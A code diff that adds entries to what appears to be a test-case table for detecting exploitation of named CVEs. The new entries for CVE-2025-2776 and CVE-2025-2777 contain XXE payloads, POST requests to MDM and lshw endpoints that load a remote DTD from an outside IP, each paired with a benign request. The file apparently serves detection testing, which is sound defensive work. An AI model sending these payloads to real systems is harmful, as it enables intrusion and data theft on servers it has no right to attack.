@@ -101,6 +101,14 @@ export const fileTransferRemote: Cases = {
     'POST /mdm/checkin\n\n<?xml version="1.0"?><!DOCTYPE cdl [<!ENTITY % a SYSTEM "http://198.51.100.7/a.dtd">%a;]>',
     'POST /mdm/checkin\n\n<plist/>',
   ],
+  'CVE-2025-2776': [
+    'POST /mdm/serverurl\n\n<?xml version="1.0"?><!DOCTYPE s [<!ENTITY % a SYSTEM "http://198.51.100.7/b.dtd">%a;]>',
+    'POST /mdm/serverurl\n\n<plist/>',
+  ],
+  'CVE-2025-2777': [
+    'POST /lshw?osVer=a\n\n<?xml version="1.0"?><!DOCTYPE l [<!ENTITY % a SYSTEM "http://198.51.100.7/c.dtd">%a;]>',
+    'POST /lshw?osVer=a\n\n<node id="pc-1"/>',
+  ],
   'CVE-2024-40711': [
     'bytes:.NET\x01\x00\x00\x00\x00\x00SOAPAction Veeam.Backup.Model.CDbCryptoKeyInfo ObjRef',
     'bytes:Veeam.Backup.Agent 12.1',
